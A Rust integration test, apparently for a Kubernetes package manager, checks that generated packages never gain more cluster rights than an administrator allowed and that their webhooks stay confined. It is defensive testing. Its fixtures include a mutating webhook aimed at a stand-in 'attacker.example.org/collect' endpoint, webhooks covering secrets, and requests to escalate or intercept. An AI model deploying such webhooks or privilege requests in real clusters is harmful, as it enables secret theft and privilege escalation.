//! Packages that dice made up: whatever they contain, each API server's own authorizer says that
//! their accounts may do no more than an administrator allowed. `plan` holds the same law on
//! thousands of packages without a server (`revision/tests/authority.rs`).

use super::revisions::crd;
use super::stage::{Stage, condition, packages};
use crate::support::until;
use serde_json::{Value as Json, json};

const COUNT: u64 = 12;
const WEBHOOKS: &str = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";
/// The group about which an administrator allows something.
const ALLOWED: &str = "made-up.example.org";
const GROUPS: [&str; 5] = ["", "apps", "rbac.authorization.k8s.io", "pkg.crossplane.io", ALLOWED];
const RESOURCES: [&str; 5] = ["pods", "secrets", "clusterroles", "providers", "things"];
const VERBS: [&str; 4] = ["get", "delete", "escalate", "intercept"];

/// Numbers that are the same each time (splitmix64).
struct Dice(u64);

impl Dice {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (mixed ^ (mixed >> 31)) % limit
    }

    fn choose<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[usize::try_from(self.below(from.len() as u64)).unwrap()]
    }
}

struct Package {
    name: String,
    requests: Vec<Json>,
    objects: Vec<Json>,
}

/// A package that asks for something, and brings a kind and a webhook that are its own business
/// or not.
fn make_up_package(number: u64) -> Package {
    let mut dice = Dice(number);
    let name = format!("made-up-{number}");
    let own = format!("{name}.example.org");
    let requests = (0..dice.below(3)).map(|_| {
        // Half of all requests are about what an administrator thought of.
        let group = if dice.below(2) == 0 { ALLOWED } else { dice.choose(&GROUPS) };
        let resource = if group == ALLOWED { "things" } else { dice.choose(&RESOURCES) };
        let verb = if group == ALLOWED { "get" } else { dice.choose(&VERBS) };
        json!({"apiGroups": [group], "resources": [resource], "verbs": [verb]})
    });
    let requests = requests.collect();
    let mut objects = vec![crd(&own, "things", &["a"])];
    if dice.below(4) == 0 {
        let (group, plural) = match dice.below(2) {
            0 => ("rbac.authorization.k8s.io", "clusterroles"),
            _ => ("pkg.crossplane.io", "things"),
        };
        let mut definition = crd(group, plural, &["a"]);
        definition["metadata"]["annotations"] =
            json!({"api-approved.kubernetes.io": "unapproved, legacy API"});
        definition["spec"]["versions"][0]["name"] = json!("v99");
        objects.push(definition);
    }
    if dice.below(2) == 0 {
        let client = match dice.below(5) {
            0 => json!({"url": "https://attacker.example.org/collect"}),
            _ => json!({"service": {"name": "victim", "namespace": "kube-system", "path": "/x"}}),
        };
        let about = match dice.below(3) {
            0 => (dice.choose(&["", "apps"]), dice.choose(&["secrets", "*"])),
            1 => (ALLOWED, "things"),
            _ => (own.as_str(), "things"),
        };
        objects.push(webhook(&client, about));
    }
    Package { name, requests, objects }
}

fn webhook(client: &Json, (group, resource): (&str, &str)) -> Json {
    json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "hook"},
        "webhooks": [{
            "name": "hook.example.org", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "failurePolicy": "Ignore", "clientConfig": client,
            "rules": [{
                "apiGroups": [group], "apiVersions": ["*"], "operations": ["CREATE"],
                "resources": [resource],
            }],
        }],
    })
}

/// Allows reading and intercepting one kind to whatever package asks for it.
fn allow_things(stage: &Stage) {
    let things =
        json!({"apiGroups": [ALLOWED], "resources": ["things"], "verbs": ["get", "intercept"]});
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "rules": [things],
        "metadata": {
            "name": "made-up-allowed",
            "labels": {"rbac.crossplane.io/aggregate-to-allowed-provider-permissions": "true"},
        },
    });
    stage.make("/apis/rbac.authorization.k8s.io/v1/clusterroles", &role);
}

/// Waits until the manager has decided about a package; gives its account if it may run.
fn decided_account(stage: &Stage, name: &str) -> Option<String> {
    let refused = ["permissions that nobody allowed", "what no package may"];
    until(&format!("the manager has decided about {name}"), || {
        let all = stage.revisions("Provider", name);
        let revision = all.into_iter().find(|one| one.1 == "Active")?.2;
        let object = stage.ask(&format!("{}/{revision}", packages("ProviderRevision")))?;
        let told = condition(&object, "RevisionHealthy").unwrap_or_default();
        let message = told["message"].as_str().unwrap_or_default();
        if told["status"] == "False" && refused.iter().any(|words| message.contains(words)) {
            return Some(None);
        }
        // Rights are bound to the account last.
        let name = format!("crossplane%3Aprovider%3A{revision}%3Asystem");
        let path = format!("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/{name}");
        let bound = stage.ask(&path)?;
        let account = bound["subjects"][0]["name"].as_str()?;
        Some(Some(format!("system:serviceaccount:crossplane-system:{account}")))
    })
}

/// The verbs, groups and resources with which packages are tried.
fn deeds(own: &str) -> Vec<[String; 3]> {
    let groups = GROUPS.iter().copied().chain([own]);
    let pairs = groups.flat_map(|group| RESOURCES.map(|resource| (group, resource)));
    let all = pairs.flat_map(|(group, resource)| VERBS.map(|verb| [verb, group, resource]));
    all.map(|deed| deed.map(str::to_owned)).collect()
}

fn may_do(stage: &Stage, account: &str, deed: &[String; 3]) -> bool {
    stage.asked.may(account, deed.each_ref().map(String::as_str))
}

/// Whether a deed is about the package's own kind, or was allowed.
fn is_rightful(own: &str, requests: &[Json], [verb, group, resource]: &[String; 3]) -> bool {
    let is_own = group == own && resource == "things" && verb == "get";
    let is_asked = requests.iter().any(|rule| rule["apiGroups"][0] == ALLOWED);
    is_own || is_asked && group == ALLOWED && resource == "things" && verb == "get"
}

/// C1, C2, H1 and H7 as a law, with each server's own authorizer for a judge.
pub(super) fn packages_of_any_content_get_what_was_allowed(stage: &Stage) {
    allow_things(stage);
    let plain = stage.push_provider("made-up-plain", "v1.0.0", &json!({}));
    stage.install("Provider", "made-up-plain", &json!({"package": plain}));
    let made: Vec<_> = (0..COUNT).map(make_up_package).collect();
    for package in &made {
        let spec = json!({"controller": {"permissionRequests": package.requests}});
        let reference =
            super::authority::push_unlinted(stage, &package.name, &spec, &package.objects);
        stage.install("Provider", &package.name, &json!({"package": reference}));
    }
    let plain = decided_account(stage, "made-up-plain").expect("a plain package is installed");
    let mut installed = 0;
    for package in &made {
        let own = format!("{}.example.org", package.name);
        let hook = stage.ask(&format!("{WEBHOOKS}/crossplane-provider-{}", package.name));
        let Some(account) = decided_account(stage, &package.name) else {
            assert!(hook.is_none(), "{}: {hook:?}", package.name);
            continue;
        };
        installed += 1;
        for deed in deeds(&own) {
            let is_allowed =
                is_rightful(&own, &package.requests, &deed) || may_do(stage, &plain, &deed);
            assert!(is_allowed || !may_do(stage, &account, &deed), "{account} may {deed:?}");
        }
        for hook in hook.iter().flat_map(|one| one["webhooks"].as_array().unwrap()) {
            let group = hook["rules"][0]["apiGroups"][0].as_str().unwrap();
            assert!([ALLOWED, &own].contains(&group), "{hook}");
            assert_eq!(hook["clientConfig"]["service"]["name"], package.name, "{hook}");
        }
    }
    let plane = stage.ask(&super::revisions::path("clusterroles.rbac.authorization.k8s.io"));
    assert!(plane.is_none(), "{plane:?}");
    // Made-up packages that are all refused, or none, would show nothing.
    assert!((3..COUNT).contains(&installed), "{installed} of {COUNT} packages were installed");
}
